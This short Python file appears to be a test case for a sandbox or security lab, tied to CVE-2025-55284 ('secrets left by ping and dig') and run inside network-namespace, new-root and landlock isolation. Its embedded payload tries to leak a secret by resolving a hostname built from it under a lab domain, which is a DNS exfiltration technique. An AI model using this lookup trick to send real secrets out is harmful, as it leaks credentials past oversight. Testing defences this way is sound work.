"""asks for a name that holds a secret"""

from evidence import secret_left as succeeded

SHAPE = "CVE-2025-55284: secrets left by ping and dig"
PROMISE = "P24"
LAB = True
WALLS = "network-namespace,new-root,landlock"
PYTHON = """
import socket
try:
    socket.getaddrinfo("@SECRET@.rwlab.net", 443)
except OSError:
    pass
"""
